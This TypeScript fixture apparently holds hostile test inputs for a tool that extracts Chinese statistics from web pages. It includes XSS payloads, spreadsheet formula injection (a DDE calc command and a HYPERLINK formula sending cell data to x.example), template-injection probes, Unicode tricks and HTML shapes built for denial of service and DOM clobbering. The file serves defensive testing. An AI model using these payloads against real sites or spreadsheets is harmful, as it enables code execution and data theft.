/** Words with which a page may try to get into a panel, a table or a pattern. Written as HTML source. */
export const words: Record<string, string> = {
  script: '&lt;script&gt;globalThis.pwned=1&lt;/script&gt;',
  image: '&lt;img src=x onerror=globalThis.pwned=1&gt;"\'&gt;&lt;svg onload=pwned=1&gt;',
  formula: '=HYPERLINK("http://x.example/?"&amp;A1,"占12.5%")',
  formulas: "@SUM(1+1)*cmd|' /C calc'!A0 占35%",
  minus: '-2+3+cmd|占37%',
  fullWidth: '＝1＋1，同比增长－5%',
  tab: '&#9;=1+1 受理9件',
  override: '\u202e件73理受\u202c，占\u206612.5%\u2069',
  isolates: '\u2067\u2067\u2067占\u200b1\u200b2\u200d.\u20605\u200e%',
  zeroWidth: '办\u200b结\u200c率\u200d1\ufeff0\u20600\u00ad%',
  combining: `占${'1\u0301'.repeat(40)}%`,
  digits: `共${'9'.repeat(20_000)}件`,
  brackets: `${'（('.repeat(5000)}占12%${'))）'.repeat(100)}`,
  remainders: `${'1余'.repeat(5000)}件，${'零'.repeat(5000)}件`,
  chinese: `${'一万亿'.repeat(3000)}元，增长${'百分之'.repeat(2000)}`,
  nulls: '受理\u0000\u0000案件\u00007\u00003件，占\uffff12%',
  controls: '受理\u0001\u0007\u001b[31m案件73件\u0085\u2028\u2029占5%',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the trick
  percent: '%s %d %n ${7*7} {{7*7}} $1 $& \\u0000 占5%',
  prototype: '__proto__ constructor toString 占5%件',
  address: 'javascript:globalThis.pwned=1 data:text/html,&lt;script&gt;',
  emoji: '👩‍👩‍👧‍👦占🅰️12.5％，㈤㊿件，⒈⒉⒊',
  css: '"; } * { display: none } /* \\22 \\a ]]&gt; --&gt;',
}

const sentence = '全年共受理行政复议案件73件，审结70件，占95.9%，同比增长12.5%，'

/** What a form answers to instead of its own properties once a field has the name. */
const formNames =
  'attributes children childNodes className closest compareDocumentPosition contains firstChild getAttribute hasAttributes id isConnected localName matches nextSibling nodeType ownerDocument parentElement parentNode querySelector querySelectorAll style textContent title'.split(
    ' ',
  )

/** Shapes with which a page may try to tie a reader up. */
export const shapes: Record<string, (word: string) => string> = {
  megabyte: () => `<p>${sentence.repeat(10_000)}</p>`,
  silence: () => `<p>${'本段文字只为增加篇幅，不含任何数据。'.repeat(20_000)}</p>`,
  table: (word) =>
    `<table>${`<tr>${`<td>${word.slice(0, 60)}</td><td>12件</td>`.repeat(20)}</tr>`.repeat(150)}</table>`,
  nested: (word) => '<table><tr><td>'.repeat(120) + word + '</td></tr></table>'.repeat(120),
  spans: () =>
    `<table><tr><td rowspan=65534 colspan=1000>12件</td></tr>${'<tr><td>1<td colspan=0>2'.repeat(300)}</table>`,
  frames: () =>
    '<iframe src="?again"></iframe><iframe srcdoc="<iframe srcdoc=&quot;占5%&quot;></iframe>"></iframe>',
  attributes: () =>
    `<p class="${'x '.repeat(300_000)}" style="${'color:red;'.repeat(20_000)}" title="${'长'.repeat(200_000)}">占5%</p>`,
  breaks: (word) => `<div>${`${word.slice(0, 40)}<br>`.repeat(3000)}</div>`,
  unclosed: (word) =>
    `<b><i><a href="x"><li><font><center>${word}<p><div></b></span></p>`.repeat(40),
  templates: (word) =>
    `<template><p>${word}</p></template><noscript>${word}</noscript><details><summary>${word}</summary></details><ruby>受<rt>shou</rt></ruby><svg><foreignObject><p>占5%</p></foreignObject></svg><math><mi>5%</mi></math>`,
  inline: () => '<span>占</span><b>12</b><i>.</i><u>5</u><s>%</s>'.repeat(1500),
  hidden: (word) =>
    `<p hidden>${word}</p><p style="display:none">占5%</p><p style="font-size:0">占6%</p><p aria-hidden=true>占7%</p>`,
  editable: (word) =>
    `<div contenteditable><p>${word}</p></div><textarea>${word}</textarea><input value="占5%">`,
  generated: (word) =>
    `<style>p::before,p::after{content:"占99%"}::highlight(heyue-error){color:red}</style><p>${word}</p>`,
  form: (word) =>
    `<form>${formNames.map((name) => `<input type="hidden" name="${name}">`).join('')}<p>${word}，占5%</p></form>`,
  base: () => '<base href="javascript:1//"><a href="http://[">下一页</a><a href="?p=2">下一页</a>',
}
